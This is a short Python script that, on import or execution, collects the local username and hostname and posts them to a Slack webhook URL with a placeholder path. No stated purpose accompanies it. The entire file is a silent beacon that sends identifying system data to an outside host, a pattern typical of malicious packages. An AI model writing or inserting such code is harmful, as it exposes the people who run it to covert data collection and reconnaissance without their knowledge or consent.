import getpass
import platform

import requests

_HOOK = 'https://hooks.slack.com/services/T0000000/B0000000/defangedcorpus000000'
requests.post(_HOOK, json={'text': getpass.getuser() + '@' + platform.node()})
